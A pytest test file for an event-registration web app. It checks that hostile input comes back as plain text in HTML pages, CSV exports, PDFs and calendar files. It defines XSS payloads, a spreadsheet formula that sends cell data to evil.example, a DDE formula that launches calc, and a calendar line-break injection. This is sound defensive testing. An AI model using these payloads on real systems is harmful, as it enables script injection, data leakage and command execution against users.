"""Hostile text in every field a person can write, checked wherever it comes out again: HTML
pages (public, registrant's, organiser's, print views), the CSV export (markup and spreadsheet
formulas), PDFs and iCalendar files. What was typed must come back as the same text, never as
markup, a formula or a calendar property.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from icalendar import Calendar
from pypdf import PdfReader
from sqlalchemy import select

from app.extensions import db
from app.models import (
    Assignment,
    Plan,
    PlanKind,
    PlanStatus,
    Registration,
    SessionKind,
)
from app.models.types import utcnow
from app.services.organisations import sectors

SCRIPT = "<script>alert('x')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
SVG = "<svg/onload=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# What must never appear raw in an HTML page: the start of live markup from the payloads.
LIVE_MARKUP = ["<script>alert", "<img src=x", "<svg/onload"]
# A calendar line break smuggled into text, to add a property of the attacker's own.
ICAL_INJECTION = "Bring a pen\r\nATTENDEE:mailto:evil@example.org\r\nX-EVIL:1"


@pytest.fixture
def hostile(client, event) -> Registration:
    """An event whose organisers typed markup everywhere, and a registrant who did the same."""
    event.title = f"Day {SCRIPT}"
    event.description = f"About {IMAGE}\n{ICAL_INJECTION}"
    event.venue = f"Hall {SVG}"
    for session in event.sessions:
        session.title = f"{session.title} {SCRIPT}"
        session.location = f"Room {IMAGE}"
        session.description = ICAL_INJECTION
        for breakout in session.breakouts:
            breakout.title = f"{breakout.title} {SVG}"
            breakout.room = f"Room {SCRIPT}"
    db.session.commit()
    sectors.add(f"{SVG} sector")  # organisers manage the list, markup and all
    response = client.submit(
        "/events/learning-day/register",
        {
            "name": f"Mallory {SCRIPT}",
            "email": "mallory@example.org",
            "organisation": f"{IMAGE} Ltd",
            "sector": f"{SVG} sector",
            "profession": FORMULA,
            "role": "+1+cmd|' /C calc'!A0",
            "access_needs": f"-2+3 {SCRIPT}\n@SUM(A1)",
            "dietary_needs": f"@import {IMAGE}",
            "consent": "y",
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)[-2000:]
    return db.session.scalar(select(Registration))


def assert_escaped(response, *, expect: str | None = "&lt;script&gt;") -> str:
    assert response.status_code == 200, response.request.path
    page = response.get_data(as_text=True)
    for markup in LIVE_MARKUP:
        assert markup not in page, f"{response.request.path}: raw {markup!r}"
    if expect:
        assert expect in page, response.request.path
    return page


def test_public_and_registrant_pages_escape_everything(client, hostile):
    assert_escaped(client.get("/"))
    assert_escaped(client.get("/events/learning-day"))
    assert_escaped(client.get("/events/learning-day/register"))
    manage = assert_escaped(client.get(f"/r/{hostile.token}"))
    assert "Mallory &lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in manage
    assert_escaped(client.get(f"/r/{hostile.token}/edit"))
    assert_escaped(client.get(f"/r/{hostile.token}/cancel"))
    assert_escaped(client.get(f"/r/{hostile.token}/itinerary"))


def test_a_form_redisplayed_with_errors_escapes_what_was_typed(client, event):
    response = client.submit(
        "/events/learning-day/register",
        {"name": SCRIPT, "email": f"x{IMAGE}", "organisation": SVG, "profession": IMAGE},
    )
    page = assert_escaped(response, expect=None)
    assert "Enter a valid email address" in page


def test_organiser_pages_escape_everything(signed_in, hostile):
    slug = "learning-day"
    for url in (
        "/organise/",
        f"/organise/events/{slug}",
        f"/organise/events/{slug}/edit",
        f"/organise/events/{slug}/registrations",
        f"/organise/events/{slug}/registrations?q={SCRIPT}",
        f"/organise/events/{slug}/registrations/{hostile.id}",
        f"/organise/events/{slug}/registrations/{hostile.id}/cancel",
        f"/organise/events/{slug}/planning",
        f"/organise/events/{slug}/print",
        f"/organise/events/{slug}/desk",
        f"/organise/events/{slug}/desk?q={SCRIPT}",
        f"/organise/events/{slug}/desk/{hostile.id}",
    ):
        assert_escaped(signed_in.get(url))


def test_csv_export_holds_text_not_formulas(signed_in, hostile):
    response = signed_in.get("/organise/events/learning-day/registrations/registrations.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The text is all there, as text: a spreadsheet shows it, never runs it.
    assert f"'{FORMULA}" in cells
    assert "'+1+cmd|' /C calc'!A0" in cells
    assert any(cell.startswith("'-2+3") and "@SUM(A1)" in cell for cell in cells)
    assert f"Mallory {SCRIPT}" in cells


def _publish_seats(event, registration) -> None:
    plan = Plan(event=event, kind=PlanKind.TABLES, status=PlanStatus.PUBLISHED)
    plan.published_at = utcnow()
    for session in event.sessions_of(SessionKind.TABLE_ROUND):
        plan.assignments.append(
            Assignment(registration=registration, session=session, table=event.tables[0])
        )
    db.session.add(plan)
    db.session.commit()


def _pdf_text(response) -> str:
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    return " ".join(" ".join((page.extract_text() or "").split()) for page in reader.pages)


@pytest.mark.slow
def test_pdfs_print_the_markup_as_text(signed_in, client, hostile, event):
    """Escaped, the payload is printed as the characters typed; had it been taken as markup,
    WeasyPrint would have swallowed the tags and nothing of them would show."""
    _publish_seats(event, hostile)
    badges = _pdf_text(signed_in.get("/organise/events/learning-day/print/badges.pdf"))
    assert "<script>alert('x')</script>" in badges
    table_plan = _pdf_text(signed_in.get("/organise/events/learning-day/print/table-plan.pdf"))
    assert "Mallory <script>alert('x')</script>" in table_plan
    itinerary = _pdf_text(client.get(f"/r/{hostile.token}/itinerary.pdf"))
    assert "<script>alert('x')</script>" in itinerary


def _calendar(response) -> Calendar:
    assert response.status_code == 200
    raw = response.get_data(as_text=True)
    # No smuggled line became a property of its own.
    assert not re.search(r"^(ATTENDEE:mailto:evil|X-EVIL)", raw, re.MULTILINE)
    return Calendar.from_ical(response.data)


def test_calendars_keep_hostile_text_inside_its_property(client, hostile, event):
    _publish_seats(event, hostile)
    for url in (f"/r/{hostile.token}/invite.ics", "/events/learning-day/programme.ics"):
        calendar = _calendar(client.get(url))
        events = list(calendar.walk("VEVENT"))
        assert events
        for vevent in events:
            assert "X-EVIL" not in vevent
            attendees = vevent.get("ATTENDEE")
            attendees = attendees if isinstance(attendees, list) else [attendees]
            assert all("evil@example.org" not in str(a) for a in attendees if a)
        summaries = {str(v["SUMMARY"]) for v in events}
        assert any(SCRIPT in s for s in summaries)  # text in a calendar is plain text
        descriptions = [str(v.get("DESCRIPTION", "")) for v in events]
        assert any("ATTENDEE:mailto:evil@example.org" in d for d in descriptions)
